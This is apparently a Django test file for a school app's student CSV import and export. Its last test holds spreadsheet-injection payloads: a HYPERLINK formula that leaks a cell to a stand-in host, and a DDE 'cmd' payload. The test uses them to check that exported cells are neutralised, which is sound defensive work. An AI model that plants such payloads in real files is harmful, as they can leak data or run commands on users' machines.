from __future__ import annotations

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile

from apps.accounts.csv_io import COLUMNS
from apps.accounts.models import Guardian, StudentProfile, User

HEADER = ",".join(COLUMNS)


def row(**values) -> str:
    return ",".join(values.get(column, "") for column in COLUMNS)


def upload(client, text: str, dry_run: bool = False):
    file = SimpleUploadedFile("students.csv", text.encode("utf-8"), content_type="text/csv")
    return client.post(
        "/api/v1/students/import/",
        {"file": file, "dry_run": "true" if dry_run else "false"},
        format="multipart",
    )


GOOD = "\n".join(
    [
        HEADER,
        row(admission_number="A-1", full_name="Ria Rao", email="ria@alice.test", date_of_birth="2013-02-03",
            gender="female", guardian1_name="Ravi Rao", guardian1_email="ravi@alice.test",
            guardian1_relation="father", guardian2_name="Rani Rao", guardian2_email="rani@alice.test"),
        row(admission_number="A-2", full_name="Om Rao", email="om@alice.test",
            guardian1_name="Ravi Rao", guardian1_email="ravi@alice.test", guardian1_relation="father"),
    ]
)  # fmt: skip


def test_dry_run_validates_and_writes_nothing(cast, api):
    response = upload(api(cast.admin), GOOD, dry_run=True)
    assert response.status_code == 200, response.json()
    body = response.json()
    assert body == {"ok": True, "dry_run": True, "rows": 2, "created": 2, "updated": 0,
                    "guardians_linked": 3, "errors": []}  # fmt: skip
    assert not StudentProfile.objects.filter(admission_number__in=["A-1", "A-2"]).exists()
    assert not User.objects.filter(email="ravi@alice.test").exists()


def test_import_writes_students_and_shared_guardian(cast, api):
    response = upload(api(cast.admin), GOOD)
    assert response.status_code == 200, response.json()
    assert response.json()["created"] == 2
    ria = StudentProfile.objects.get(school=cast.school, admission_number="A-1")
    assert ria.user.full_name == "Ria Rao" and str(ria.date_of_birth) == "2013-02-03"
    ravi = User.objects.get(email="ravi@alice.test")
    assert ravi.role == "parent" and ravi.school == cast.school
    assert set(
        Guardian.objects.filter(parent=ravi).values_list("student__admission_number", flat=True)
    ) == {"A-1", "A-2"}
    assert Guardian.objects.get(student=ria, is_primary=True).parent == ravi
    assert api(ravi).get("/api/v1/students/").json()["count"] == 2


def test_one_bad_row_writes_nothing_and_reports_every_error(cast, api):
    text = "\n".join(
        [
            HEADER,
            row(admission_number="B-1", full_name="Fine Kid", email="fine@alice.test"),
            row(admission_number="B-2", full_name="", email="bad-email", date_of_birth="31/12/2013"),
            row(admission_number="B-1", full_name="Dup Kid", email="dup@alice.test",
                guardian1_name="G", guardian1_email="not-an-email"),
            row(admission_number="B-4", full_name="Teacher Mail", email="tara@alice.test"),
        ]
    )  # fmt: skip
    response = upload(api(cast.admin), text)
    assert response.status_code == 400
    body = response.json()
    assert body["ok"] is False and body["error"]["code"] == "import_invalid"
    errors = {entry["line"]: entry["fields"] for entry in body["errors"]}
    assert set(errors) == {3, 4, 5}
    assert {"full_name", "email", "date_of_birth"} <= set(errors[3])
    assert {"admission_number", "guardian1_email"} <= set(errors[4])
    assert "email" in errors[5]
    assert not StudentProfile.objects.filter(admission_number__startswith="B-").exists()
    assert not User.objects.filter(email="fine@alice.test").exists()


def test_missing_columns_and_bad_encoding(cast, api):
    client = api(cast.admin)
    response = upload(client, "name,mail\nx,y")
    assert response.status_code == 400 and "file" in response.json()["error"]["fields"]
    file = SimpleUploadedFile(
        "s.csv", "admission_number,full_name,email\n1,Jö,x@y.z".encode("latin-1")
    )
    response = client.post("/api/v1/students/import/", {"file": file}, format="multipart")
    assert response.status_code == 400 and "file" in response.json()["error"]["fields"]
    assert client.post("/api/v1/students/import/", {}, format="multipart").status_code == 400


def test_export_round_trips_through_import(cast, api):
    client = api(cast.admin)
    assert upload(client, GOOD).status_code == 200
    exported = client.get("/api/v1/students/export/")
    assert exported.status_code == 200 and exported["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    by_number = {r["admission_number"]: r for r in rows}
    assert set(by_number) == {cast.student.admission_number, cast.sibling.admission_number,
                              cast.other_student.admission_number, "A-1", "A-2"}  # fmt: skip
    assert by_number["A-1"]["guardian1_email"] == "ravi@alice.test"
    assert by_number["A-1"]["guardian2_email"] == "rani@alice.test"
    assert "zed@bob.test" not in exported.content.decode()

    edited = exported.content.decode().replace("Ria Rao", "Ria R. Rao")
    again = upload(client, edited)
    assert again.status_code == 200, again.json()
    assert again.json()["created"] == 0 and again.json()["updated"] == 5
    assert again.json()["guardians_linked"] == 0
    assert StudentProfile.objects.get(admission_number="A-1").user.full_name == "Ria R. Rao"
    assert StudentProfile.objects.filter(school=cast.school).count() == 5


def test_export_respects_search(cast, api):
    exported = api(cast.accountant.user).get("/api/v1/students/export/?search=oscar")
    rows = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert [r["full_name"] for r in rows] == ["Oscar Other"]


FORMULA = '=HYPERLINK("https://x.example/?"&A2,"Report")'


def test_export_neutralises_formula_cells_and_imports_them_back_unchanged(cast, api):
    user = cast.student.user
    user.full_name, user.phone = FORMULA, "+91 98765 43210"
    user.save()
    cast.student.address = "@SUM(1+1)*cmd|' /C calc'!A0"
    cast.student.emergency_contact_name = "'quoted already"
    cast.student.save()
    cast.parent.full_name = "-Pat+Parent"
    cast.parent.save()

    client = api(cast.admin)
    exported = client.get("/api/v1/students/export/")
    assert exported.status_code == 200
    rows = {
        r["admission_number"]: r for r in csv.DictReader(io.StringIO(exported.content.decode()))
    }
    sam = rows[cast.student.admission_number]
    assert sam["full_name"] == "'" + FORMULA
    assert sam["phone"] == "'+91 98765 43210"
    assert sam["address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert sam["emergency_contact_name"] == "'quoted already"  # not a formula: as it is
    assert sam["guardian1_name"] == "'-Pat+Parent"
    assert sam["date_of_birth"] == "" and sam["email"] == "sam@alice.test"
    # No cell of the whole file starts a formula.
    for record in rows.values():
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in record.values())

    again = upload(client, exported.content.decode())
    assert again.status_code == 200, again.json()
    assert again.json()["created"] == 0 and again.json()["updated"] == 3
    user.refresh_from_db()
    cast.student.refresh_from_db()
    assert user.full_name == FORMULA and user.phone == "+91 98765 43210"
    assert cast.student.address == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert cast.student.emergency_contact_name == "'quoted already"
